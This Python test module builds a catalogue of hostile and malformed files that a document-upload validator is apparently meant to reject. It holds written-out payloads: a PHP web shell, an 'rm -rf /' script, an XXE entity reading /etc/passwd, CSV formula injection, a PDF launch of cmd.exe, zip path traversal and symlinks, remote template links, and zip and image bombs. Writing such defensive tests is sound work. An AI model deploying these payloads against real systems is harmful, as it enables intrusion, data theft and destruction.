"""Files that lie, hide, run or burst: what a dossier must not take, each under its name."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable

from tests.campaigns.dossier.files import old, old_excel, old_word, pdf, photo, text, word

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
MACRO = b"application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REMOTE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/%s" Target="https://example.org/x.dotm" TargetMode="External"/>'
    b"</Relationships>"
)


def packed(parts: Iterable[tuple[str | zipfile.ZipInfo, bytes]], method: int = 8) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return made.getvalue()


def word_with(*more: tuple[str | zipfile.ZipInfo, bytes], types: bytes = MAIN) -> bytes:
    """A small Word file with further parts."""
    return packed(
        [
            ("[Content_Types].xml", b"<Types>" + types + b"</Types>"),
            ("word/document.xml", b"<w:document/>"),
            *more,
        ]
    )


def _link() -> zipfile.ZipInfo:
    link = zipfile.ZipInfo("word/media/image1.png")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return link


def _patched(content: bytes, sign: bytes, offset: int, value: bytes, which: int = 0) -> bytes:
    """The bytes at ``offset`` behind the ``which``-th ``sign`` replaced by ``value``."""
    place = -1
    for _time in range(which + 1):
        place = content.index(sign, place + 1)
    start = place + offset
    return content[:start] + value + content[start + len(value) :]


def _doubled() -> bytes:
    """Two parts of one name, put together from two of names alike."""
    made = word_with(("word/a.xml", b"<a/>"), ("word/b.xml", b"<b/>"))
    return made.replace(b"word/b.xml", b"word/a.xml")


def _of_one_body() -> bytes:
    """Two parts that share their bytes: the trick by which a small file bursts."""
    return _patched(word_with(), b"PK\x01\x02", 42, struct.pack("<I", 0), which=1)


def _locked() -> bytes:
    made = _patched(word_with(), b"PK\x01\x02", 8, b"\x01\x00")
    return _patched(made, b"PK\x03\x04", 6, b"\x01\x00")


def _huge() -> bytes:
    """A part that says it unpacks to 300 MB."""
    return _patched(word_with(), b"PK\x01\x02", 24, struct.pack("<I", 300 * 1024 * 1024))


def _lying() -> bytes:
    """A part that says 12 bytes and unpacks to eight million."""
    made = word_with(("word/media/big.bin", bytes(8_000_000)))
    return _patched(made, b"PK\x01\x02", 24, struct.pack("<I", 12), which=2)


def _wrong_sum() -> bytes:
    return _patched(word_with(), b"PK\x01\x02", 16, b"\0\0\0\0", which=1)


def _remarked() -> bytes:
    made = word_with()
    return made[:-2] + struct.pack("<H", len(HTML)) + HTML


def _png(width: int, height: int) -> bytes:
    """The head of a picture of that many points, and next to nothing in it."""

    def chunk(name: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(name + content))
        return struct.pack(">I", len(content)) + name + content + check

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + chunk(b"IDAT", zlib.compress(bytes(100)))
        + chunk(b"IEND", b"")
    )


def _jpg(width: int, height: int) -> bytes:
    made = photo()
    place = made.index(b"\xff\xc0") + 5
    return made[:place] + struct.pack(">HH", height, width) + made[place + 4 :]


def _hidden_objects(objects: bytes) -> bytes:
    inside = zlib.compress(objects)
    return (
        b"4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n"
        % len(inside)
        + inside
        + b"\nendstream\nendobj\n"
    )


def _circle() -> bytes:
    """A compound file whose directory leads back into itself."""
    made = old({"WordDocument": bytes(100)})
    return made[:512] + struct.pack("<III", 0xFFFFFFFD, 1, 1) + made[524:]


def _zip_of(*names: str) -> bytes:
    return packed((name, b"x") for name in names)


ODT_LOCKED = b"<manifest><manifest:encryption-data/></manifest>"
JS = b"4 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n"
HOSTILE: dict[str, Callable[[], bytes]] = {
    # not what the name says, or nothing at all
    "empty": lambda: b"",
    "one byte": lambda: b"x",
    "html as pdf": lambda: HTML,
    "html behind blanks": lambda: b"\xef\xbb\xbf  \n" + HTML,
    "svg with a script": lambda: SVG,
    "svg with a prolog": lambda: b'<?xml version="1.0"?>' + SVG,
    "xml with an entity": lambda: (
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    ),
    "script": lambda: b"alert(1)",
    "shell": lambda: b"#!/bin/sh\nrm -rf /\n",
    "php": lambda: b"<?php system($_GET['c']); ?>",
    "exe": lambda: b"MZ\x90\0" + bytes(500),
    "elf": lambda: b"\x7fELF" + bytes(500),
    "gif that is a script": lambda: b"GIF89a/*" + bytes(50) + b"*/=alert(1)",
    "webp": lambda: b"RIFF\x24\0\0\0WEBPVP8 " + bytes(20),
    "bmp": lambda: b"BM" + bytes(60),
    "tiff": lambda: b"II*\0" + bytes(60),
    "heic": lambda: b"\0\0\0\x18ftypheic" + bytes(40),
    "rtf": lambda: b"{\\rtf1 x}",
    "plain text": "Báo cáo".encode,
    "csv": lambda: b"a,b\n=cmd|'/c calc'!A1,2\n",
    "video": lambda: b"\0\0\0\x18ftypmp42" + bytes(40),
    "7z": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(40),
    "rar": lambda: b"Rar!\x1a\x07\0" + bytes(40),
    "gzip": lambda: b"\x1f\x8b\x08\0" + bytes(40),
    "mht": lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n",
    # PDF
    "pdf cut in half": lambda: pdf()[: len(pdf()) // 2],
    "pdf of a head alone": lambda: b"%PDF-1.7\n",
    "pdf of no version": lambda: pdf().replace(b"%PDF-1.7", b"%PDF-9.x"),
    "pdf behind html": lambda: HTML + pdf(),
    "pdf with html in its head": lambda: pdf().replace(b"%\xe2\xe3", b"%" + HTML, 1),
    "pdf with html behind": lambda: pdf() + HTML,
    "pdf with html and an end": lambda: pdf() + HTML + b"\n%%EOF",
    "pdf with a zip behind": lambda: pdf() + _zip_of("a.exe"),
    "pdf around a zip": lambda: pdf() + _zip_of("a.exe") + b"\n%%EOF\n",
    "pdf with a lock": lambda: pdf(trailer=b"/Encrypt 5 0 R"),
    "pdf with a script": lambda: pdf(JS),
    "pdf with a script, name escaped": lambda: pdf(JS.replace(b"/JavaScript", b"/J#61vaScript")),
    "pdf with a script, packed": lambda: pdf(_hidden_objects(JS)),
    "pdf with a script, packed and escaped": lambda: pdf(
        _hidden_objects(JS.replace(b"/JavaScript", b"/JavaS#63ript"))
    ),
    "pdf that starts a program": lambda: pdf(b"4 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"),
    "pdf with a file inside": lambda: pdf(b"4 0 obj\n<</Type/EmbeddedFile>>\nendobj\n"),
    "pdf with a film": lambda: pdf(b"4 0 obj\n<</Subtype/RichMedia>>\nendobj\n"),
    "pdf with an XFA form": lambda: pdf(b"4 0 obj\n<</XFA 5 0 R>>\nendobj\n"),
    # archives
    "zip": lambda: _zip_of("a.pdf", "b.docx"),
    "zip of one exe": lambda: _zip_of("bao-cao.pdf.exe"),
    "jar": lambda: _zip_of("META-INF/MANIFEST.MF", "A.class"),
    "epub": lambda: packed([(zipfile.ZipInfo("mimetype"), b"application/epub+zip")]),
    "empty zip": lambda: b"PK\x05\x06" + bytes(18),
    # Word, Excel, LibreOffice
    "docx cut in half": lambda: word()[: len(word()) // 2],
    "docx without its last byte": lambda: word()[:-1],
    "docx behind html": lambda: HTML + word(),
    "docx with html behind": lambda: word() + HTML,
    "docx with a remark": _remarked,
    "docx with something between": lambda: _patched(
        word_with(), b"PK\x05\x06", 16, struct.pack("<I", 1)
    ),
    "docm": lambda: word_with(types=MACRO),
    "docx with vba": lambda: word_with(("word/vbaProject.bin", b"x")),
    "docx with activex": lambda: word_with(("word/activeX/activeX1.bin", b"x")),
    "docx with a program inside": lambda: word_with(("word/embeddings/oleObject1.bin", b"MZ")),
    "docx with a docm inside": lambda: word_with(("word/embeddings/a.docm", b"PK")),
    "docx with a template from elsewhere": lambda: word_with(
        ("word/_rels/settings.xml.rels", REMOTE % b"attachedTemplate")
    ),
    "docx with an object from elsewhere": lambda: word_with(
        ("word/_rels/document.xml.rels", REMOTE % b"oleObject")
    ),
    "docx with a frame from elsewhere": lambda: word_with(
        ("word/_rels/webSettings.xml.rels", REMOTE % b"frame")
    ),
    "docx with a DTD": lambda: word_with(
        ("word/styles.xml", b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>')
    ),
    "docx with a link": lambda: word_with((_link(), b"/etc/passwd")),
    "docx that leads out": lambda: word_with(("../../etc/cron.d/x", b"x")),
    "docx of an absolute path": lambda: word_with(("/etc/passwd", b"x")),
    "docx of a Windows path": lambda: word_with(("word\\..\\x.exe", b"x"), ("C:x.exe", b"x")),
    "docx with a doubled part": _doubled,
    "docx of shared bytes": _of_one_body,
    "docx with a locked part": _locked,
    "docx that says it is huge": _huge,
    "docx that lies about its size": _lying,
    "docx with a wrong sum": _wrong_sum,
    "docx of another packing": lambda: packed(
        [("[Content_Types].xml", MAIN), ("word/document.xml", b"<a/>")], zipfile.ZIP_BZIP2
    ),
    "docx of 3,000 parts": lambda: word_with(*((f"word/media/{n}.png", b"") for n in range(3_000))),
    "pptx": lambda: packed([("[Content_Types].xml", b"<Types/>"), ("ppt/presentation.xml", b"x")]),
    "docx without a document": lambda: packed([("[Content_Types].xml", MAIN)]),
    "xlsx with old macros": lambda: word_with(("xl/macrosheets/sheet1.xml", b"<a/>")),
    "odt with Basic": lambda: text({"Basic/Standard/Module1.xml": b"<a/>"}),
    "odt with scripts": lambda: text({"Scripts/python/x.py": b"x"}),
    "odt with a lock": lambda: text(manifest=ODT_LOCKED),
    "odt whose type is packed": lambda: packed(
        [("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<a/>")]
    ),
    "ods": lambda: packed(
        [(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.spreadsheet")]
    ),
    # Word and Excel of old
    "docx with a password": lambda: old({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
    "doc with macros": lambda: old({"WordDocument": bytes(20), "Macros": b"x"}),
    "doc with a password": lambda: old_word(flags=0x0100),
    "xls with a password": lambda: old_excel((0x002F, bytes(6))),
    "xls with a macro sheet": lambda: old_excel((0x0085, bytes(5) + b"\x01" + b"\0\x01\0A")),
    "xls with vba": lambda: old({"Workbook": bytes(20), "_VBA_PROJECT_CUR": b"x"}),
    "msi": lambda: old({"\u4840\u3f7f": b"x"}),
    "doc that leads in a circle": _circle,
    "doc cut short": lambda: old_word()[:700],
    "doc of a head alone": lambda: old_word()[:100],
    # pictures
    "jpg cut in half": lambda: photo()[: len(photo()) // 2],
    "png cut in half": lambda: photo("PNG")[: len(photo("PNG")) // 2],
    "png of 20,000 × 20,000": lambda: _png(20_000, 20_000),
    "png of 10,000 × 10,000": lambda: _png(10_000, 10_000),
    "png of 7,000 × 6,000": lambda: _png(7_000, 6_000),
    "jpg of 20,000 × 20,000": lambda: _jpg(20_000, 20_000),
    "png that is html": lambda: b"\x89PNG\r\n\x1a\n" + HTML,
    "jpg that is html": lambda: b"\xff\xd8\xff\xe0" + HTML,
    # too much
    "more than 20 MB": lambda: b"%PDF-1.7\n" + bytes(20 * 1024 * 1024),
}
